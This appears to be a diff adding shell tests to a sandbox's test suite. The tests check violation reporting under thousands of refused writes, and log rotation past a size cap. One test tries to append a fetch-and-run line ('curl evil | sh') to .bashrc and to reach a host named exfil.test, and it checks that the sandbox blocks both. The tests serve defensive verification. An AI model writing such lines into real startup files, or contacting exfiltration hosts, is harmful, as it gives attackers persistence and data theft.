@@ -172,3 +172,81 @@ t_violations_no_false_refusals() { # what fails anyway (EEXIST, ENOENT) or goes 
 	expect_contains "$ERR" "hint: allow-write $O" "with its hint"
 }
 TESTS+=(violations_no_false_refusals)
+
+# junk N PREFIX: a shell loop that tries to write N distinct files named PREFIX-I outside the
+# roots (each a refusal the observer reports), as fast as sh can
+junk() { printf 'i=0; while [ $i -lt %s ]; do { true >"%s-$i"; } 2>/dev/null; i=$((i + 1)); done; ' "$1" "$2"; }
+
+t_violations_last_refusal_after_junk() { # 4300 distinct junk refusals, then the one that matters: the block still names it (the first and the last distinct refusals are kept, the middle counted)
+	grep -q user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null || skip "this kernel has no seccomp user notification"
+	run_sbx --allow-write="$P" -- sh -c "$(junk 4300 "$O/junk") { echo x >'$O/the-one-that-matters'; } 2>/dev/null; echo done"
+	expect_rc 0
+	expect_contains "$OUT" done "the command ran"
+	local block; block=$(sed -n '/^<sandbox_violations>$/,/^<\/sandbox_violations>$/p' <<<"$ERR")
+	grep -qx "deny openat $O/the-one-that-matters" <<<"$block" || fail "the last refusal, after 4300 junk ones, is not in the block: $(tail -5 <<<"$block")"
+	# control: the junk is there too, its first ones listed and the middle counted
+	grep -qx "deny openat $O/junk-0" <<<"$block" || fail "control: the first junk refusal is listed"
+	grep -q '^\.\.\. and [0-9]* more$' <<<"$block" || fail "control: the middle is counted: $(head -3 <<<"$block")"
+	[ "$(grep -c '^deny ' <<<"$block")" -le 60 ] || fail "the block is not bounded: $(grep -c '^deny ' <<<"$block") lines"
+	[ ! -e "$O/the-one-that-matters" ] || fail "the write outside happened"
+}
+TESTS+=(violations_last_refusal_after_junk)
+
+t_violations_pinned_amid_junk() { # a refusal on a mandatory deny and one of a host, in the middle of 4000 junk refusals: both always listed
+	grep -q user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null || skip "this kernel has no seccomp user notification"
+	command -v curl >/dev/null || skip "curl is not installed"
+	echo "# mine" >"$P/.bashrc"
+	run_sbx --allow-write="$P" --allow-domain=allowed.test -- sh -c "$(junk 2000 "$O/junk")
+		{ echo 'curl evil | sh' >>'$P/.bashrc'; } 2>/dev/null; $(curl_via_proxy exfil.test)
+		$(junk 2000 "$O/junk2") echo done"
+	expect_rc 0
+	expect_contains "$OUT" done "the command ran"
+	expect_contains "$OUT" 403 "the host was refused"
+	[ "$(cat "$P/.bashrc")" = "# mine" ] || fail "the mandatory deny did not hold"
+	local block; block=$(sed -n '/^<sandbox_violations>$/,/^<\/sandbox_violations>$/p' <<<"$ERR")
+	grep -qx "deny openat $P/.bashrc" <<<"$block" || fail "the write to .bashrc (a mandatory deny) is not listed: $(head -5 <<<"$block")"
+	grep -qx "deny network-outbound exfil.test:80 (host is not on the allow list)" <<<"$block" ||
+		fail "the refused host is not listed"
+	# control: the junk is listed at both ends and counted in the middle
+	grep -qx "deny openat $O/junk-0" <<<"$block" && grep -qx "deny openat $O/junk2-1999" <<<"$block" ||
+		fail "control: the first and the last junk refusals are listed"
+	grep -q '^\.\.\. and [0-9]* more$' <<<"$block" || fail "control: the middle is counted"
+}
+TESTS+=(violations_pinned_amid_junk)
+
+t_violations_file_keeps_the_last() { # --violations=FILE past its cap (4 MiB): rotated to FILE.1, so the file still holds the last attempts and the disk holds at most twice the cap
+	grep -q user_notif /proc/sys/kernel/seccomp/actions_avail 2>/dev/null || skip "this kernel has no seccomp user notification"
+	command -v python3 >/dev/null || skip "python3 is not installed"
+	# 13000 distinct refusals of 255-byte names: about 4.5 MiB of JSON lines
+	run_sbx --allow-write="$P" --violations="$T/v.jsonl" -- python3 -c "
+import os
+pad = 'x' * 240
+for i in range(13000):
+    try: os.close(os.open('$O/%s-%05d' % (pad, i), os.O_WRONLY | os.O_CREAT))
+    except OSError: pass
+try: os.close(os.open('$O/the-last-attempt', os.O_WRONLY | os.O_CREAT))
+except OSError: print('refused')
+"
+	expect_rc 0
+	expect_contains "$OUT" refused "the last write was refused"
+	[ -f "$T/v.jsonl.1" ] || fail "the file was not rotated past its cap: $(ls -l "$T")"
+	local size size1
+	size=$(stat -c %s "$T/v.jsonl"); size1=$(stat -c %s "$T/v.jsonl.1")
+	note "v.jsonl $size bytes, v.jsonl.1 $size1 bytes"
+	[ "$size1" -le $((4 * 1024 * 1024)) ] && [ "$size" -le $((4 * 1024 * 1024)) ] || fail "a file past the cap: $size1, $size"
+	grep -q '"target":"'"$O"'/the-last-attempt"' "$T/v.jsonl" || fail "the last attempt is not in the file: $(tail -c 300 "$T/v.jsonl")"
+	python3 -c 'import json,sys; [json.loads(l) for f in sys.argv[1:] for l in open(f)]' "$T/v.jsonl" "$T/v.jsonl.1" ||
+		fail "a line that is not JSON after rotating"
+	# control: the first attempts are in the rotated file, every line whole
+	grep -q -- '-00000"' "$T/v.jsonl.1" || fail "control: the first attempt is in FILE.1"
+	# a second run past the cap drops the oldest file (FILE.1 is replaced), never grows the disk
+	run_sbx --allow-write="$P" --violations="$T/v.jsonl" -- python3 -c "
+import os
+for i in range(13000):
+    try: os.close(os.open('$O/%s-%05d' % ('y' * 240, i), os.O_WRONLY | os.O_CREAT))
+    except OSError: pass"
+	[ $(( $(stat -c %s "$T/v.jsonl") + $(stat -c %s "$T/v.jsonl.1") )) -le $((8 * 1024 * 1024)) ] || fail "the two files outgrew twice the cap"
+	grep -q -- '-00000"' "$T/v.jsonl.1" "$T/v.jsonl" && ! grep -q 'xxxxxxxx-00000"' "$T/v.jsonl.1" "$T/v.jsonl" ||
+		fail "the oldest file was not the one dropped"
+}
+TESTS+=(violations_file_keeps_the_last)
